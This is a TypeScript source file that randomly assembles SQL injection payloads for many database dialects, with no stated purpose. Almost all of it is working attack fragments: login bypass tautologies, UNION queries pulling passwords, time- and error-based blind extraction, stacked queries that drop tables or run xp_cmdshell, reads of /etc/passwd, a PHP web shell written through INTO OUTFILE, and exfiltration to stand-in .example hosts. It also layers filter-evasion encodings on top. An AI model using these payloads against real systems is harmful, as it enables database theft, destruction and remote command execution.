// Commands for a database: every common dialect, and every way to see the answer (shown, by error, by a yes or no, by
// time, by another server), from general knowledge of SQL and of how injections are written.

import type { Picker } from './picker.ts';
import { NAMES, SECRETS, TABLES } from './sqli.table.ts';

function gap(p: Picker, isOdd: boolean): string {
  return isOdd
    ? p.pick([
        '/**/',
        '+',
        '%20',
        '\t',
        '\n',
        '%0a',
        '%0d%0a',
        '%09',
        '/*x*/',
        '%a0',
        '/*!*/',
        '--%0a',
        '/**//**/',
        '\u000b',
        '%0b',
        '()',
        '  ',
        '#\n',
        '\u00a0',
        '--\n',
        `/*${p.letters(1, 6)}*/`,
      ])
    : ' ';
}

function number(p: Picker): string {
  return p.pick([
    '1',
    '0',
    '-1',
    String(p.int(2, 9999)),
    '1',
    `0x${p.hex(1, 8)}`,
    '1.0',
    '1e0',
    '.1',
    `${p.int(1, 99)}.${p.int(0, 9)}`,
    '99999',
    '~1',
    '-' + String(p.int(2, 9999)),
    '2-1',
    '@@version',
    'true',
    'null',
    '\\N',
  ]);
}

/** Something that is always so, or never. */
function truth(p: Picker): string {
  const n = p.int(1, 9999);
  const word = p.letters(1, 4);
  return p.pick([
    `${n}=${n}`,
    '1=1',
    `'${word}'='${word}'`,
    `'${word}'='${word}`,
    `"${word}"="${word}"`,
    `"${word}"="${word}`,
    `${n}>${n - 1}`,
    `${n}<${n + 1}`,
    '1=2',
    `${n}=${n + 1}`,
    `'${word}' like '${word}`,
    `1 like 1`,
    `true`,
    `not false`,
    `${n} in (${n})`,
    `1 between 0 and 2`,
    `exists(select 1)`,
    `ascii(substring((${select(p)}),${p.int(1, 9)},1))>${p.int(32, 122)}`,
    `length((${select(p)}))=${p.int(1, 30)}`,
    `substr(${p.pick(SECRETS)},1,1)='${p.letters(1, 1)}'`,
    `(select count(*) from ${p.pick(TABLES)})>0`,
    `(select ${p.pick(NAMES)} from ${p.pick(TABLES)} limit 1)='${word}'`,
    `${p.pick(NAMES)} is not null`,
    `${p.pick(NAMES)} like '%${word}%'`,
    `1 rlike 1`,
    `1<=>1`,
    `0x31=1`,
    `'1'`,
    `!1`,
    `~0`,
    `'${word}' not in ('')`,
    `mid(version(),1,1)=${p.int(4, 9)}`,
    `1 is true`,
    `ord(mid((${select(p)}),${p.int(1, 20)},1))>${p.int(32, 122)}`,
    `(select ${n} from (select sleep(${p.int(1, 20)}))a)`,
    `'${word}'||'${word}'='${word}${word}'`,
    `row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from ${p.pick(TABLES)} group by x)`,
    `''=''`,
    `'x'='x`,
    `1-- -`,
    `1#`,
  ]);
}

function select(p: Picker): string {
  return `select ${p.pick([p.pick(SECRETS), p.pick(NAMES), `count(*)`, `distinct ${p.pick(NAMES)}`, `top 1 ${p.pick(NAMES)}`, 'substring(password,1,1)'])} from ${p.pick(TABLES)}${p.maybe(0.25, ` where ${p.pick(NAMES)}=${p.pick(["'admin'", '1', '0x61646d696e', 'char(97)'])}`)}${p.maybe(0.25, p.pick([` limit ${p.int(0, 9)},1`, ' limit 1', ` limit 1 offset ${p.int(0, 9)}`, ' where rownum=1']))}`;
}

function columns(p: Picker): string {
  return p.many(1, p.chance(0.15) ? 30 : 8, ',', (index) =>
    p.pick([
      String(index + 1),
      String(index + 1),
      'null',
      p.pick(SECRETS),
      p.pick(NAMES),
      "'a'",
      `0x${p.hex(4, 12)}`,
      `char(${p.int(60, 120)})`,
    ]),
  );
}

function union(p: Picker): string {
  return `union ${p.pick(['', 'all ', 'all ', 'distinct '])}select ${p.pick(['', '', '', 'top 1 ', 'distinct '])}${p.chance(0.05) ? '*' : columns(p)}${p.maybe(0.6, ` from ${p.pick(TABLES)}`)}${p.maybe(0.1, ` where ${truth(p)}`)}${p.maybe(0.1, ' limit 1')}`;
}

function delay(p: Picker): string {
  const seconds = p.int(1, 30);
  return p.pick([
    `sleep(${seconds})`,
    `waitfor delay '0:0:${seconds}'`,
    `pg_sleep(${seconds})`,
    `benchmark(${p.int(1, 99)}000000,md5(${p.pick(['1', "'a'", '0x61', 'now()'])}))`,
    `dbms_pipe.receive_message(('a'),${seconds})`,
    `dbms_lock.sleep(${seconds})`,
    `(select ${p.int(1, 9999)} from (select(sleep(${seconds})))${p.letters(4, 4)})`,
    `(select count(*) from generate_series(1,${p.int(1, 9)}000000))`,
    `randomblob(${p.int(1, 9)}00000000)`,
    `if(1=1,sleep(${seconds}),0)`,
    `(select case when (1=1) then pg_sleep(${seconds}) else pg_sleep(0) end)`,
    `utl_inaddr.get_host_address('10.0.0.1')`,
    `like('abcdefg',upper(hex(randomblob(500000000/2))))`,
    `(select * from (select(sleep(${seconds})))a)`,
    `elt(1=1,sleep(${seconds}))`,
    `iif(1=1,sleep(${seconds}),0)`,
    `if(now()=sysdate(),sleep(${seconds}),0)`,
    `xor(if(now()=sysdate(),sleep(${seconds}),0))`,
  ]);
}

function error(p: Picker): string {
  const inner = select(p);
  return p.pick([
    `extractvalue(${p.int(1, 9999)},concat(0x5c,(${inner})))`,
    `updatexml(1,concat(0x7e,(${inner})),1)`,
    `exp(~(select*from(${inner})x))`,
    `(select ${p.int(1, 9999)} from(select count(*),concat((${inner}),floor(rand(0)*2))x from information_schema.plugins group by x)a)`,
    `convert(int,(${inner}))`,
    `cast((${inner}) as int)`,
    `cast(version() as numeric)`,
    `ctxsys.drithsx.sn(1,(${inner}))`,
    `1/0`,
    `geometrycollection((${inner}))`,
    `json_keys((select convert((${inner}) using utf8)))`,
    `xmltype(chr(60)||(${inner}))`,
    `gtid_subset((${inner}),1)`,
    `procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
    `polygon((select*from(${inner})x))`,
    `@@version in (${inner})`,
  ]);
}

function stacked(p: Picker): string {
  return p.pick([
    `drop table ${p.pick(TABLES)}`,
    `shutdown`,
    `exec xp_cmdshell '${p.pick(['dir', 'ping', 'whoami', 'net user'])}'`,
    `exec master..xp_cmdshell 'ping ${p.letters(3, 6)}.example'`,
    `insert into ${p.pick(TABLES)} values(${columns(p)})`,
    `update ${p.pick(TABLES)} set ${p.pick(NAMES)}='${p.letters(3, 8)}' where 1=1`,
    `delete from ${p.pick(TABLES)}`,
    `declare @${p.letters(1, 3)} varchar(8000);set @${p.letters(1, 1)}=0x${p.hex(20, 60)};exec(@${p.letters(1, 1)})`,
    `create table ${p.letters(1, 5)}(a text)`,
    `copy ${p.letters(1, 4)} from program 'id'`,
    `select ${delay(p)}`,
    delay(p),
    `truncate table ${p.pick(TABLES)}`,
    `exec sp_configure 'show advanced options',1`,
    `select * from ${p.pick(TABLES)}`,
    `handler ${p.pick(TABLES)} open`,
    `prepare stmt from concat('sel','ect 1')`,
    `alter table ${p.pick(TABLES)} drop column ${p.pick(NAMES)}`,
    `exec master.dbo.xp_dirtree '\\\\${p.letters(3, 8)}.example\\a'`,
    `grant all on *.* to ${p.letters(1, 5)}`,
    `attach database '/var/www/x.php' as x`,
    `begin dbms_lock.sleep(5);end`,
    `create or replace function system(cstring) returns int as '/lib/libc.so.6','system' language c`,
    `load data infile '/etc/passwd' into table ${p.letters(1, 5)}`,
    `use master`,
    `execute immediate 'select 1'`,
  ]);
}

function outside(p: Picker): string {
  return p.pick([
    `union select ${columns(p)} into outfile '/var/www/${p.letters(2, 6)}.php'`,
    `into dumpfile '/tmp/${p.letters(1, 5)}'`,
    `union select load_file('${p.pick(['/etc/passwd', 'c:/boot.ini', '\\\\\\\\' + p.letters(3, 6) + '.example\\\\a'])}')`,
    `||utl_http.request('http://${p.letters(3, 8)}.example/'||(${select(p)}))`,
    `and (${select(p)} into @a)`,
    `procedure analyse()`,
    `lines terminated by '<?php system($_GET[c]);?>'`,
  ]);
}

function end(p: Picker): string {
  return p.pick([
    '',
    '',
    '',
    '--',
    '-- ',
    '-- -',
    '#',
    '/*',
    '--+',
    ';--',
    '; -- ',
    '%23',
    ';%00',
    '\u0000',
    ` and '1'='1`,
    ` or '1'='1`,
    ` and '${p.letters(4, 4)}'='${p.letters(4, 4)}`,
    ` and "1"="1`,
    ';',
    '`',
    "||'",
    '--+-',
    ' -- x',
    ')-- -',
    "'",
    '"',
    ` limit 1`,
    ` order by ${p.int(1, 20)}`,
    ';#',
    '-- ' + p.letters(4, 4),
  ]);
}

function start(p: Picker): string {
  const value = p.pick([
    '',
    '',
    '1',
    '-1',
    String(p.int(0, 99999)),
    p.letters(1, 8),
    'admin',
    '1.0',
    'x',
    '%',
    'test@example.com',
    '-' + String(p.int(1, 9999)),
  ]);
  const quote = p.pick([
    "'",
    "'",
    "'",
    '"',
    '',
    '',
    ')',
    "')",
    "'))",
    '")',
    '"))',
    '))',
    '`',
    "\\'",
    "%'",
    '%27',
    "''",
    "';",
    "';",
    '"',
    ');',
    "]'",
    "'))))",
    "%df'",
    "\u00bf'",
    "'||'",
    "'+'",
    '%2527',
    '\\',
  ]);
  return value + quote;
}

export function sqli(p: Picker): string {
  const isOdd = p.chance(0.2);
  let text: string;
  const kind = p.int(0, 99);
  const first = start(p);
  const word = p.pick([
    'and',
    'or',
    'and',
    'or',
    'and',
    'or',
    '&&',
    '||',
    'xor',
    'having',
    'where',
    'or not',
    'and not',
    '|',
    'rlike',
    'div',
    'like',
    '^',
    'regexp',
    ',',
    '=',
    '-',
    '+',
    '*',
    'is',
    'in',
  ]);
  if (kind < 26) text = `${first} ${word} ${p.maybe(0.15, '(')}${truth(p)}${end(p)}`;
  else if (kind < 48) text = `${first} ${union(p)}${end(p)}`;
  else if (kind < 58) text = `${first} ${word} ${p.chance(0.2) ? '(' : ''}${delay(p)}${end(p)}`;
  else if (kind < 68) text = `${first} ${word} ${error(p)}${end(p)}`;
  else if (kind < 78) text = `${first};${p.maybe(0.5, ' ')}${stacked(p)}${end(p)}`;
  else if (kind < 82) text = `${first} ${outside(p)}${end(p)}`;
  else if (kind < 86)
    text = `${first} ${p.pick(['order by', 'group by', 'procedure analyse', 'limit'])} ${p.pick([String(p.int(1, 100)), `${p.int(1, 9)},${p.int(1, 9)}`, `(${select(p)})`, '(case when 1=1 then 1 else 2 end)', `if(1=1,sleep(3),1)`])}${end(p)}`;
  else if (kind < 89) text = `(${select(p)})`;
  else if (kind < 91)
    text = p.pick([
      `admin'${p.pick(['--', '#', '/*', ' or 1=1', '-- -', "||'", "+'"])}`,
      `${p.letters(3, 8)}' or '1`,
      "'='",
      "'or'",
      "' or ''='",
      `'-'`,
      `'*'`,
      `'^'`,
      `'&'`,
      `' or 1 --`,
      `") or ("x")=("x`,
      `') or ('x')=('x`,
      `or 1=1`,
      `and 1=0`,
      `' group by ${p.pick(NAMES)} having 1=1--`,
      `'|0#`,
      `"='`,
      `' or true--`,
      `1' or '1' = '1`,
      `or 1=1#`,
      `' like '`,
      `0'xor(if(now()=sysdate(),sleep(5),0))xor'z`,
      `'=0--+`,
      `' || '1`,
      "'='1",
      `' is null`,
      `"-"`,
      `1' or 1.e(1) or '1'='1`,
      `${number(p)} or ${number(p)}`,
      `'%20or%20''='`,
    ]);
  else if (kind < 94)
    text = `${first}${p.pick(['||', '+', '|', '&&', '-', '*'])}(${select(p)})${p.pick(['||', '+', '-'])}${p.pick(["'", '"', '1'])}`;
  else if (kind < 97)
    text = `{"${p.pick(['$or', 'a'])}":"${first} ${word} ${truth(p)}"}`.slice(p.pick([0, 7]));
  else text = `${stacked(p)}${end(p)}`;
  if (p.chance(0.1))
    text = text.replaceAll(/\b(select|union|from|where|and|or|all)\b/gu, (found) =>
      p.pick([
        `/*!${found}*/`,
        `/*!50000${found}*/`,
        `${found.slice(0, 2)}/**/${found.slice(2)}`,
        `${found.slice(0, 2)}${found}${found.slice(2)}`,
        found,
        `%${found.charCodeAt(0).toString(16)}${found.slice(1)}`,
      ]),
    );
  if (isOdd) {
    const with_ = gap(p, true);
    text = text.replaceAll(' ', () => (p.chance(0.8) ? with_ : gap(p, true)));
  }
  if (p.chance(0.25)) text = p.chance(0.5) ? p.mixCase(text) : text.toUpperCase();
  return text;
}
